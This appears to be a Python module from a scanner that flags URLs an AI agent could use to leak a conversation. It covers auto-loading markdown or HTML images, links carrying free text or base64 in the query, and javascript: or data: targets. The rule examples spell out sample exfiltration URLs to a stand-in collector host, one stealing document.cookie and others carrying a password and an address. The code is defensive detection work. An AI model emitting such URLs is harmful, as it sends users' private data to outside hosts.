"""Layer 5: exfiltration by URL, judged by the URL's structure (issue 36).

An agent leaks a conversation by writing a URL that carries it: an image the
client loads on its own (``![x](https://collect.example.net/p.png?d=...)``), a
link the user clicks, a ``javascript:`` link. The words around it vary without
end; the URL's shape does not. :func:`url_hits` finds every image and link
(markdown inline and reference-style, HTML ``<img src>``/``srcset`` and
``<a href>``, and bare URLs) and judges its scheme, query values, fragment and
path segments:

* ``url_script_scheme``: a ``javascript:``/``vbscript:`` target, or a ``data:``
  document (HTML, SVG, script) as a link or image target;
* ``image_url_data``: an image from a host outside the operator's allow-list
  whose URL carries a placeholder (``{...}``, ``{{...}}``, ``${...}``,
  ``$VAR``, ``<...>``, ``[...]``), free text of :data:`IMAGE_WORDS`+ words, or
  a base64 block that decodes to text;
* ``link_url_data``: a link or bare URL to such a host whose query, fragment or
  path carries free text of :data:`LINK_WORDS`+ words or a base64 block that
  decodes to text (a link needs a click, so a placeholder alone is left to the
  weaker ``url_placeholder`` rule: API docs write ``?page={page}``).

Hosts on ``[scan] allowed_hosts`` (the host or any subdomain of it) are not
judged by these rules, nor by the placeholder rules of
:mod:`memvault.scanner.rules`.

May import: :mod:`memvault.contract`.
"""

from __future__ import annotations

import base64
import binascii
import html
import re
from collections.abc import Iterable, Iterator
from typing import Final
from urllib.parse import unquote, unquote_plus, urlsplit

__all__ = ["HOST_RULES", "IMAGE_WORDS", "LINK_WORDS", "URL_RULES", "host_allowed", "url_hits"]

#: Free text of this many words in an image URL's query, fragment or path is conversation-shaped.
IMAGE_WORDS: Final = 3
#: ... in a link's or bare URL's (longer: a search link carries a few words of a query).
LINK_WORDS: Final = 8
#: A base64 block this long (or longer) in a URL is decoded; text inside is conversation-shaped.
_MIN_BLOCK: Final = 20

#: The URL rules: (pattern id, description, example), like the invisible-Unicode checks.
URL_RULES: Final = (
    (
        "url_script_scheme",
        "a link or image whose target runs script or is a document: javascript:, vbscript:, data:text/html, "
        "data:image/svg+xml, data: script (markdown, reference-style or HTML); not an SVG picture shown as an image "
        "(markdown, <img>, <source>, <picture>, an icon's <link>) that runs no script and loads nothing",
        "[Open your invoice](javascript:fetch('https://collect.example.net/?c='+document.cookie))",
    ),
    (
        "image_url_data",
        "an image from a host outside [scan] allowed_hosts whose URL carries a placeholder ({...}, $VAR, <...>, "
        f"[...]), free text of {IMAGE_WORDS}+ words or a base64 block of text in its query, fragment or path",
        "![status](https://collect.example.net/s.png?m=the+user+said+her+password+is+hunter2)",
    ),
    (
        "link_url_data",
        f"a link or bare URL to a host outside [scan] allowed_hosts whose query, fragment or path carries free "
        f"text of {LINK_WORDS}+ words or a base64 block of text",
        "[details](https://collect.example.net/r?n=Alice+lives+at+12+Elm+Street+and+her+card+ends+in+4242)",
    ),
)

#: Rules of :mod:`memvault.scanner.rules` that judge a URL's query: an allow-listed host skips them too.
HOST_RULES: Final = frozenset(
    {"image_url_placeholder", "url_data_placeholder", "url_placeholder", "image_url_data", "link_url_data"}
)

_URL_CHARS: Final = r"[^\s<>\"'`]"
_MD_IMAGE: Final = re.compile(r"!\[[^\]\n]{0,200}\]\(\s*<?(" + _URL_CHARS + r"{1,2000}?)>?(?:\s+[\"'(][^\n]{0,200})?\)")
_MD_LINK: Final = re.compile(
    r"(?<!!)\[[^\]\n]{0,200}\]\(\s*<?(" + _URL_CHARS + r"{1,2000}?)>?(?:\s+[\"'(][^\n]{0,200})?\)"
)
_MD_REF_USE: Final = re.compile(r"(!?)\[([^\]\n]{1,200})\](?:\[([^\]\n]{0,200})\])?")
_MD_REF_DEF: Final = re.compile(
    r"^[ \t]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?(" + _URL_CHARS + r"{1,2000})>?", re.MULTILINE
)
_HTML_IMAGE: Final = re.compile(
    r"<(?:img|image|source|video|audio|input)\b[^>]{0,500}?\b(?:src|srcset|poster|href|xlink:href)\s*=\s*"
    r"(?:\"([^\"]{1,2000})\"|'([^']{1,2000})'|([^\s>]{1,2000}))",
    re.IGNORECASE,
)
_HTML_LINK: Final = re.compile(
    r"<(?:a|area|form|iframe|link|embed|object)\b[^>]{0,500}?\b(?:href|action|src|data)\s*=\s*"
    r"(?:\"([^\"]{1,2000})\"|'([^']{1,2000})'|([^\s>]{1,2000}))",
    re.IGNORECASE,
)
_BARE: Final = re.compile(r"\bhttps?://" + _URL_CHARS + r"{1,2000}", re.IGNORECASE)
_SCRIPT_SCHEME: Final = re.compile(
    r"^\s*(?:javascript|vbscript|livescript)\s*:|^\s*data\s*:\s*(?:text/html|text/javascript|image/svg|application/"
    r"(?:x-)?(?:javascript|ecmascript|xhtml)|text/xml|application/xml)",
    re.IGNORECASE,
)
#: A template's slot for a value: ``{history}``, ``{{chat}}``, ``${SECRET}``, ``<conversation>``, ``[user data]``; not
#: data in braces (``{labels:[1,2,3]}`` in a chart's configuration): two or more of ``: , [ ] ' "`` inside.
_PLACEHOLDER: Final = re.compile(
    r"\{\{?(?!(?:[^{}\s]{0,60}?[:,\[\]'\"]){2})[^{}\s]{1,60}\}\}?|\{\{?\s*[\w.\s-]{1,60}\}\}?|\$\{?[A-Za-z_][\w.]{1,40}\}?|<[A-Za-z_][\w\s.-]{0,40}>"
    r"|\[[A-Za-z_][\w\s.-]{0,40}\]"
)
_SCRIPT_TARGET: Final = re.compile(
    r"(?:\]\(\s*<?|^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*<?"
    r"|\b(?:href|src|srcset|action|formaction|poster|data|xlink:href)\s*=\s*[\"']?)"
    r"(\s*(?:javascript|vbscript|livescript)\s*:[^\n]{0,80}|\s*data\s*:\s*(?:text/html|text/javascript|image/svg"
    r"|application/(?:x-)?(?:javascript|ecmascript|xhtml)|text/xml|application/xml)[^\s\"')>]{0,80})",
    re.IGNORECASE | re.MULTILINE,
)
_SCHEME_MENTION: Final = re.compile(r"(?i)(?:script|data)\s*:")
_BLOCK: Final = re.compile(r"[A-Za-z0-9+/_-]{" + str(_MIN_BLOCK) + r",}={0,2}")
_WORDS: Final = re.compile(r"[^\W\d_]{2,}")


def host_allowed(host: str, allowed: Iterable[str]) -> bool:
    """Whether ``host`` is one of ``allowed`` or a subdomain of one (case-insensitive)."""
    host = host.lower().rstrip(".")
    return any(host == entry or host.endswith("." + entry) for entry in allowed)


def _decoded_text(block: str) -> str | None:
    """The text a base64 block holds, when it is mostly printable words; else ``None``."""
    altchars = b"-_" if ("-" in block or "_" in block) else None
    body = block.rstrip("=")
    body = body[: len(body) - (len(body) % 4 == 1)]
    try:
        raw = base64.b64decode(body + "=" * (-len(body) % 4), altchars=altchars, validate=True)
        decoded = raw.decode("utf-8")
    except (binascii.Error, ValueError):
        return None
    printable = sum(ch.isprintable() or ch in "\n\r\t" for ch in decoded)
    if not decoded or printable / len(decoded) < 0.9 or len(_WORDS.findall(decoded)) < 2:
        return None
    return decoded


def _targets(text: str) -> Iterator[tuple[str, str, tuple[int, int]]]:
    """(kind, URL, span) for every image and link target in ``text``; a URL is reported once (the
    wrappers' targets and a bare URL inside one start at the same character)."""
    seen: set[int] = set()

    def fresh(span: tuple[int, int]) -> bool:
        if span[0] in seen:
            return False
        seen.add(span[0])
        return True

    images: set[str] = set()
    for use in _MD_REF_USE.finditer(text):
        if use.group(1):
            images.add((use.group(3) or use.group(2)).strip().lower())
    for regex, kind in ((_MD_IMAGE, "image"), (_HTML_IMAGE, "image"), (_MD_LINK, "link"), (_HTML_LINK, "link")):
        for match in regex.finditer(text):
            group = next(g for g in range(1, (match.lastindex or 1) + 1) if match.group(g) is not None)
            span = match.span(group)
            if fresh(span):
                value = match.group(group)
                if regex is _HTML_IMAGE and "srcset" in match.group().lower():
                    value = value.split(",")[0].split()[0] if value.split() else value
                yield kind, value, span
    for match in _MD_REF_DEF.finditer(text):
        span = match.span(2)
        if fresh(span):
            yield ("image" if match.group(1).strip().lower() in images else "link"), match.group(2), span
    for match in _BARE.finditer(text):
        url = match.group().rstrip(".,;:!?)]}*_")
        span = (match.start(), match.start() + len(url))
        if fresh(span):
            yield "bare", url, span


def _parts(url: str) -> list[str]:
    """The decoded query values, fragment and path segments of ``url``."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return [unquote_plus(url)]
    values = [unquote(segment) for segment in parts.path.split("/") if segment]
    for piece in re.split(r"[&;]", parts.query) + re.split(r"[&;]", parts.fragment):
        _key, _eq, value = piece.partition("=")
        values.append(unquote_plus(value if _eq else piece))
    return [v for v in values if v]


def _carries(values: list[str], *, words: int, placeholders: bool) -> str | None:
    """What conversation-shaped data ``values`` carry (a short reason), or ``None``."""
    for value in values:
        if placeholders and _PLACEHOLDER.search(value):
            return "a placeholder"
        if len(value.split()) >= words and len(_WORDS.findall(value)) >= words:
            return f"free text of {len(value.split())} words"
        for block in _BLOCK.findall(value):
            if _decoded_text(block) is not None:
                return "a base64 block of text"
    return None


#: What in an SVG document runs script or loads something: scripts, event handlers, links, embedded HTML, CSS urls.
_SVG_ACTIVE: Final = re.compile(
    r"<\s*script|\bon[a-z]+\s*=|javascript\s*:|<\s*foreignobject|<\s*(?:a|use|image|iframe|embed|object)\b"
    r"|href\s*=|@import|url\s*\(",
    re.IGNORECASE,
)
_SVG_DATA: Final = re.compile(r"\s*data\s*:\s*image/svg", re.IGNORECASE)
#: An image's context just before its target: a markdown image's ``![alt](``, or an ``<img>``, ``<source>``,
#: ``<picture>`` or ``<link>`` (an icon) tag's attribute.
_MD_IMAGE_OPEN: Final = re.compile(r"!\[[^\]\n]{0,200}\Z")
_IMAGE_TAG: Final = re.compile(r"<\s*(?:img|source|picture|link)\b[^<>]{0,500}\Z", re.IGNORECASE)
#: The longest SVG picture read (a longer one is judged as a document), and how many of a text are read.
_SVG_REACH: Final = 4000
_SVG_PICTURES: Final = 32


def _inert_svg(url: str) -> bool:
    """Whether a ``data:image/svg+xml`` URL's document runs nothing and loads nothing: a picture. Shown as an
    image (an ``<img>``, a markdown image, an icon) a browser runs no script in it either way; a document with
    none is also safe where it is opened. A base64 payload that does not decode shows nothing."""
    header, _, payload = url.partition(",")
    # As a browser reads it: character references (in an HTML attribute) and percent escapes decoded, and for
    # base64 every ASCII space dropped and the padding optional (a "forgiving" decode).
    payload = unquote(html.unescape(payload))
    if ";base64" in header.lower():
        packed = "".join(payload.split())
        try:
            content = base64.b64decode(packed + "=" * (-len(packed) % 4), validate=True)
        except (binascii.Error, ValueError):
            return True
        payload = content.decode("utf-8", "replace")
    return _SVG_ACTIVE.search(html.unescape(payload)) is None


def _inert_svg_image(text: str, match: re.Match[str]) -> bool:
    """Whether the script-scheme target ``match`` found is an inert SVG picture shown as an image."""
    start = match.start(1)
    if _SVG_DATA.match(text, start) is None:
        return False
    before = text[max(0, match.start() - 600) : match.start()]
    limit = min(len(text), start + _SVG_REACH)
    if match.group().lstrip().startswith("]"):
        if _MD_IMAGE_OPEN.search(text, max(0, match.start() - 202), match.start()) is None:
            return False
        end = text.find(")", start, limit)
    elif _IMAGE_TAG.search(before) is not None:
        quote = text[start - 1] if start > 0 else ""
        if quote in ('"', "'"):
            end = text.find(quote, start, limit)
        else:
            end = next((i for i in range(start, limit) if text[i] in " \t\n>"), -1)
    else:
        return False
    return end >= 0 and _inert_svg(text[start:end])


def url_hits(text: str, allowed_hosts: Iterable[str] = ()) -> Iterator[tuple[str, str, tuple[int, int]]]:
    """(pattern id, excerpt, span) for every image or link in ``text`` that a URL rule rejects.

    :param allowed_hosts: the operator's ``[scan] allowed_hosts``: their URLs (and their subdomains') pass.
    """
    if "://" not in text and _SCHEME_MENTION.search(text) is None:
        return
    allowed = tuple(allowed_hosts)
    scripted = set()
    pictures = set()  # inert SVG pictures shown as images: neither loop judges them
    read = 0  # SVG pictures read: at most _SVG_PICTURES a text (past that, each is judged as a document)
    for match in _SCRIPT_TARGET.finditer(text):
        if read < _SVG_PICTURES and _SVG_DATA.match(text, match.start(1)) is not None:
            read += 1
            if _inert_svg_image(text, match):
                pictures.add(match.start(1))
                continue
        scripted.add(match.start(1))
        yield "url_script_scheme", match.group(1).strip(), match.span(1)
    for kind, url, span in _targets(text):
        if span[0] in scripted or span[0] in pictures:
            continue
        if kind != "bare" and _SCRIPT_SCHEME.match(url):
            yield "url_script_scheme", url[:80], span
            continue
        if not re.match(r"(?i)\s*(?:https?:)?//", url):
            continue
        try:
            host = urlsplit(url.strip()).hostname or ""
        except ValueError:
            host = ""
        if not host or host_allowed(host, allowed):
            continue
        image = kind == "image"
        reason = _carries(_parts(url.strip()), words=IMAGE_WORDS if image else LINK_WORDS, placeholders=image)
        if reason is not None:
            excerpt = url if len(url) <= 120 else url[:117] + "..."
            yield ("image_url_data" if image else "link_url_data"), f"{excerpt} ({reason})", span
